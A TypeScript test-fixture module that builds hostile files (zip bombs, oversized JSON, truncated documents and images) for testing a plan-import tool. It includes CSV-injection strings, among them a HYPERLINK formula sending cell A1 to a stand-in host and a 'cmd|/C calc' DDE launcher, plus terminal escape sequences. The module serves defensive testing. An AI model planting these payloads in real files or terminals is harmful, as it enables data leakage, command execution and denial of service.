import type { Plan } from "@parcomms/core";
import { writeDocx, writeZipBomb } from "@parcomms/ingest/testing";
import { plan003, seedText } from "@parcomms/sample-data";
import { HOSTILE_MARKUP } from "./hostileMarkup";

/** A hostile file as a test gives it: a name and its bytes. */
export interface HostileFile {
  readonly name: string;
  readonly bytes: Uint8Array;
}

const MB = 1024 * 1024;
const SEED_003 = "003_c2f82bd70c212939.txt";
const utf8 = (text: string) => new TextEncoder().encode(text);
const json = (name: string, value: unknown): HostileFile => ({ name, bytes: utf8(JSON.stringify(value)) });
/** UTF-16 little-endian code units, with no byte order mark. */
const utf16le = (text: string) => {
  const bytes = new Uint8Array(text.length * 2);
  const view = new DataView(bytes.buffer);
  for (let i = 0; i < text.length; i += 1) view.setUint16(i * 2, text.charCodeAt(i), true);
  return bytes;
};
/** Plan 003 (xã Gia Tân), copied, under another id so it is not the good plan given beside it. */
const plan003As = (id: string): Plan => ({ ...structuredClone(plan003), id });

/** The fields of a plan that hold free text (titles, names, quoted wording, notes), at any depth. */
const TEXT_FIELDS = new Set([
  "title",
  "name",
  "text",
  "note",
  "wording",
  "description",
  "label",
  "heading",
  "trigger",
]);
/** `value` with `mark(text)` in place of every free-text field's text, at any depth. */
function markTexts(value: unknown, mark: (text: string) => string): unknown {
  if (Array.isArray(value)) return value.map((item) => markTexts(item, mark));
  if (value === null || typeof value !== "object") return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, field]) => [
      key,
      typeof field === "string" && TEXT_FIELDS.has(key) ? mark(field) : markTexts(field, mark),
    ]),
  );
}

/** Starts of text a spreadsheet runs as a formula (OWASP "CSV injection"). */
const FORMULAS = [
  '=HYPERLINK("http://example.invalid/?q="&A1,"Xem")',
  "+84 912 345 678 ",
  "-2+3+cmd|' /C calc'!A0 ",
  "@SUM(1,2) ",
  "\tTuyên truyền ",
  "\rTuyên truyền ",
];

/**
 * The hostile files of issue 14, made in code, one builder each, shared by
 * the command line's table (tests/hostile/src/hostileFiles.test.ts) and the
 * notebook's browser test (packages/notebook/e2e/hostileFiles.test.ts), so
 * both meet the same bytes. Each is meant to be given together with a good
 * plan (seed 003 as JSON). Defects with no file of their own (a FIFO, a
 * device, an unreadable folder, `--lang` after `--`) are made by the table
 * that needs them.
 *
 * @example
 * const { name, bytes } = hostileFiles.zipBombDocx();
 * writeFileSync(join(dir, name), bytes); // bomb.docx: 3 KB that claim 400 MB inside
 */
export const hostileFiles = {
  /** Defect 1: a .docx of ~1 KB deflated whose document.xml inflates to 1 MB and whose headers claim 400 MB. */
  zipBombDocx: (): HostileFile => ({
    name: "bomb.docx",
    bytes: writeZipBomb({ inflatedBytes: MB, declaredBytes: 400 * MB }),
  }),
  /** Defect 1: the same bomb named .odt. */
  zipBombOdt: (): HostileFile => ({
    name: "bomb.odt",
    bytes: writeZipBomb({ inflatedBytes: MB, declaredBytes: 400 * MB }),
  }),
  /** Defect 2: a JSON array of 150,000 numbers (~1 MB): 150,000 issues, once a stack overflow. */
  numbers: (): HostileFile =>
    json(
      "numbers.json",
      Array.from({ length: 150_000 }, (_, i) => i),
    ),
  /** Defect 5: plan 003 with title, office names, activity titles and sub-task texts starting as spreadsheet formulas. */
  formulaPlan: (): HostileFile => {
    const plan = plan003As("plan-formulas");
    plan.title = `${FORMULAS[0]}${plan.title}`;
    plan.offices.forEach((office, i) => {
      office.name = `${FORMULAS[i % FORMULAS.length]}${office.name}`;
    });
    plan.activities.forEach((activity, i) => {
      activity.title = `${FORMULAS[(i + 1) % FORMULAS.length]}${activity.title}`;
      activity.subtasks?.forEach((subtask, j) => {
        subtask.text = `${FORMULAS[(i + j + 2) % FORMULAS.length]}${subtask.text}`;
      });
    });
    return json("formulas.json", plan);
  },
  /** Defect 6: plan 003 whose unit name clears the screen and whose title sets the terminal's title, in a file whose name turns text red. */
  escapePlan: (): HostileFile => {
    const plan = plan003As("plan-escapes");
    plan.title = `\u001b]0;pwned\u0007${plan.title}`;
    if (plan.unit) plan.unit.name = `${plan.unit.name}\u001b[2J\u001b[H`;
    return json("esc\u001b[31m.json", plan);
  },
  /** Defect 6: seed 003's text with an escape sequence in its title line, for `extract`. */
  escapeText: (): HostileFile => ({
    name: "esc-text.txt",
    bytes: utf8(seedText(SEED_003).replace("Tuyên truyền cải cách", "Tuyên truyền\u001b[8m cải cách")),
  }),
  /** Defect 7: "a) Tuyên truyền" 8,000 times (128 KB): over 4 minutes to extract before extraction was made linear. */
  repetitiveText: (): HostileFile => ({
    name: "lap-lai.txt",
    bytes: utf8("a) Tuyên truyền\n".repeat(8_000)),
  }),
  /** Defect 8 in a document: seed 003's text with row 5's time (003:374, "Mỗi tháng 01 kỳ") written "0 tuần 1 lần". */
  frequencyZeroText: (): HostileFile => {
    const lines = seedText(SEED_003).split("\n");
    if (lines[373] !== "Mỗi tháng 01 kỳ") throw new Error("003:374 is not row 5's time");
    lines[373] = "0 tuần 1 lần";
    return { name: "tan-suat-0.txt", bytes: utf8(lines.join("\n")) };
  },
  /** Defect 8: plan 003 with one activity's frequency "0 tuần 1 lần" read as interval 0 (a rate of Infinity a year). */
  frequencyZero: (): HostileFile => {
    const plan = plan003As("plan-frequency-0");
    const activity = plan.activities.find((a) => a.frequency?.kind === "frequency");
    if (activity?.frequency?.kind === "frequency")
      activity.frequency = { ...activity.frequency, interval: 0, raw: "0 tuần 1 lần" };
    return json("tan-suat-0.json", plan);
  },
  /** Defect 10: plan 003 as JSON in UTF-16 little-endian without a byte order mark. */
  utf16NoBom: (): HostileFile => ({
    name: "utf16.json",
    bytes: utf16le(JSON.stringify(plan003As("plan-utf16"))),
  }),
  /** HTML and script in every free-text field of plan 003 (and in the file's name), to be shown as text. */
  markupPlan: (): HostileFile =>
    json(
      HOSTILE_MARKUP.file,
      markTexts(plan003As("plan-markup"), (text) => `${HOSTILE_MARKUP.field}${text}`),
    ),
  /** A .docx cut in half: its zip directory is missing. */
  damagedDocx: (): HostileFile => {
    const whole = writeDocx(seedText(SEED_003));
    return { name: "hong.docx", bytes: whole.slice(0, Math.floor(whole.length / 2)) };
  },
  /** A PDF header and a catalogue object cut off before its end, with no cross-reference table. */
  damagedPdf: (): HostileFile => ({
    name: "hong.pdf",
    bytes: utf8("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R\n2 0 obj\n<< /Type /Pages /Kids [3 0 R"),
  }),
  /** A PNG signature and the start of a header chunk, then nothing. */
  damagedPng: (): HostileFile => ({
    name: "hong.png",
    bytes: Uint8Array.from([
      0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0,
    ]),
  }),
  /** A JPEG start-of-image and the start of an APP0 segment, then nothing. */
  damagedJpg: (): HostileFile => ({
    name: "hong.jpg",
    bytes: Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46]),
  }),
} as const;
